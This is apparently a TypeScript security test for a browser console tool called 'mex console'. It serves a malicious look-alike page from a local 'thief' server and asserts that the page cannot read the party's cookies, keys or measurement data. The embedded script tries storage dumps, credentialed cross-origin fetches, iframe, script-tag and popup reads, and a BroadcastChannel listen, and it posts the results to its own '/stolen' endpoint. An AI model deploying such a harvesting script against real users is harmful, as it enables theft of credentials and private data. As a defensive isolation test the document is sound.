/**
 * An exchange serves an altered copy of the console. The copy sends everything that it can read to the exchange. If a
 * party uses `mex console` in the same browser, the altered copy must not get the party's keys or questions.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { lacksChromium } from '@measurement-exchange/testkit/chromium';
import { openConsole, type TestConsole } from '@measurement-exchange/testkit/console';
import { createMeasurement } from '@measurement-exchange/testkit/steps';
import { afterAll, beforeAll, expect, it } from 'vitest';

let c: TestConsole;
let thief: Server;
/** Everything that the server of the altered page received: the paths, headers and bodies of all requests. */
let stolen = '';

/**
 * Returns the altered page. It reads all that it can, calls the `mex console` server in many ways, and posts the
 * results to its own server.
 */
function alteredPage(target: string): string {
  return `<!doctype html><title>Measurement Exchange</title><script type="module">
    const home = (what) => fetch('/stolen', { method: 'POST', body: String(what) });
    const tryTo = async (name, work) => {
      try { await home(name + ': ' + JSON.stringify(await work())); } catch (error) { await home(name + ' failed'); }
    };
    await tryTo('storage', async () => [{ ...localStorage }, { ...sessionStorage }, document.cookie, await indexedDB.databases(), await caches.keys()]);
    await tryTo('window', () => [Object.keys(window), window.opener && Object.keys(window.opener), window.name]);
    for (const path of ['/console.json', '/v2alpha/whoami', '/companion/about', '/']) {
      for (const mode of ['cors', 'no-cors']) {
        for (const method of ['GET', 'POST']) {
          await tryTo(method + ' ' + mode + ' ' + path, async () => {
            const response = await fetch('${target}' + path, { method, mode, credentials: 'include', ...(method === 'POST' && { body: '{}' }) });
            return [response.status, await response.text()];
          });
        }
      }
    }
    await tryTo('frame', () => new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.onload = () => { try { resolve(frame.contentDocument.body.innerText); } catch { resolve('unreadable'); } };
      frame.src = '${target}/';
      document.body.append(frame);
    }));
    await tryTo('script', () => new Promise((resolve) => {
      const script = document.createElement('script');
      script.onload = () => resolve(Object.keys(window));
      script.onerror = () => resolve('blocked');
      script.src = '${target}/console.json';
      document.body.append(script);
    }));
    const popup = window.open('${target}/', 'console');
    await new Promise((resolve) => setTimeout(resolve, 500));
    await tryTo('popup', () => popup.document.body.innerText);
    const channel = new BroadcastChannel('mex-sign-in');
    channel.onmessage = ({ data }) => home('channel: ' + data);
    await home('done');
  </script>`;
}

beforeAll(async () => {
  if (lacksChromium) return;
  c = await openConsole();
});
afterAll(async () => {
  thief?.closeAllConnections();
  thief?.close();
  await c?.close();
});

it.skipIf(lacksChromium)(
  'an altered console at the exchange cannot read keys, questions or responses of mex console',
  async () => {
    const [acme, streamly] = [c.exchange.dev.measurementConsumers[0]!, c.exchange.dev.dataProviders[0]!];
    const measurement = await createMeasurement(c.exchange as never, acme, [streamly]);
    const { page, context } = await c.open('acme');
    const target = new URL(page.url()).origin;
    // The party's page shows the measurement, so the altered page has something to steal.
    await page.goto(`${target}/measurements`);
    await page.locator('#main').waitFor();
    const heard: string[] = [];
    page.on('request', (request) => heard.push(new URL(request.url()).origin));

    thief = createServer(async (request, response) => {
      stolen += `${request.url} ${JSON.stringify(request.headers)}\n`;
      for await (const chunk of request) stolen += chunk;
      stolen += '\n';
      response.setHeader('content-type', 'text/html');
      response.end(request.method === 'GET' ? alteredPage(target) : '');
    }).listen(0, '127.0.0.1');
    const altered = await context.newPage();
    await altered.goto(`http://127.0.0.1:${(thief.address() as AddressInfo).port}/`);
    await expect.poll(() => stolen).toContain('\ndone');

    const cookies = await context.cookies(target);
    const keys = Object.values<string>({ ...acme }).filter((value) => value.length > 100);
    const secrets = [
      ...cookies.map(({ value }) => value),
      ...keys.flatMap((key) => key.split('\n').filter((line) => line.length > 40)),
    ];
    expect(secrets.length).toBeGreaterThan(4);
    for (const secret of secrets) expect(stolen).not.toContain(secret);
    expect(stolen).not.toContain(measurement.name);
    // The altered page could not read any response of `mex console`, even though it sent its requests with credentials.
    expect(stolen).not.toMatch(/measurementConsumers|mex console"|\[200,/);
    expect(stolen).toContain('GET cors /console.json failed');
    expect(stolen).toMatch(/popup failed/);
    // The party's own page sent requests only to mex console.
    await page.reload();
    await page.locator('.app').waitFor();
    expect(new Set(heard)).toEqual(new Set([target]));
  },
);
